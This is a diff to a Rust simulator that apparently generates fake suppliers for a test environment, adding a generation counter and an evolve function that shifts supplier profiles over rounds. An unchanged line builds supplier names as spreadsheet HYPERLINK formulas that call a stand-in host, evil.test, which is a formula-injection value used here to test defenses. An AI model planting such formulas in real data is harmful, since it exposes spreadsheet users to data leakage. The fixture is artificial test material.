@@ -20,6 +20,9 @@ use crate::lang::Lang;
 use crate::names::{self, INDUSTRIES};
 use crate::profile::{CertKind, HostileKind, Profile};
 
+/// Share of suppliers that change profile in each generation.
+pub const EVOLVE_SHARE: f64 = 0.2;
+
 /// Host of the single-window registry.
 pub const SINGLE_WINDOW_HOST: &str = "sw.asean-single-window.test";
 
@@ -38,6 +41,9 @@ pub struct WorldConfig {
     pub now: DateTime<Utc>,
     /// How long the slow endpoints take to answer.
     pub slow_answer: std::time::Duration,
+    /// How many rounds of change the world has gone through since
+    /// generation 0 (same seed: same suppliers, some with new profiles).
+    pub generation: u32,
 }
 
 impl WorldConfig {
@@ -56,6 +62,7 @@ impl WorldConfig {
             port,
             now: today,
             slow_answer: std::time::Duration::from_secs(3),
+            generation: 0,
         }
     }
 }
@@ -382,6 +389,10 @@ impl World {
         if let Some(p) = self.special.get(&index) {
             return *p;
         }
+        self.weighted_profile(rng)
+    }
+
+    fn weighted_profile(&self, rng: &mut ChaCha8Rng) -> Profile {
         let total: u32 = self.profiles.iter().map(|p| p.weight()).sum();
         let mut roll = rng.random_range(0..total);
         for p in &self.profiles {
@@ -408,6 +419,7 @@ impl World {
         if profile == Profile::FormulaName {
             name = format!("=HYPERLINK(\"http://evil.test/x?{index}\",\"{name}\")");
         }
+        let profile = self.evolve(index, profile, country.code);
         Identity {
             profile,
             country,
@@ -415,6 +427,30 @@ impl World {
             name,
             slug,
         }
+    }
+
+    /// The profile of supplier `index` after `config.generation` rounds of
+    /// change: in each round a fifth of the suppliers move to another
+    /// profile (a site adds an API, loses its page, gets revoked...). Name,
+    /// country and domain never change, so runs can be compared.
+    fn evolve(&self, index: usize, mut profile: Profile, country: &str) -> Profile {
+        if matches!(profile, Profile::FormulaName | Profile::ReadyGbk) {
+            return profile;
+        }
+        let has_authority = AUTHORITIES.iter().any(|a| a.2 == country);
+        for generation in 1..=self.config.generation {
+            let mut rng = rng_for(self.config.seed, index, 100 + u64::from(generation));
+            if !rng.random_bool(EVOLVE_SHARE) {
+                continue;
+            }
+            let candidate = self.weighted_profile(&mut rng);
+            let allowed = !matches!(candidate, Profile::FormulaName | Profile::ReadyGbk)
+                && (candidate.certificate_kind().is_none() || has_authority);
+            if allowed {
+                profile = candidate;
+            }
+        }
+        profile
     }
 
     /// Regenerates supplier `index` (panics never: out of range gives the last).
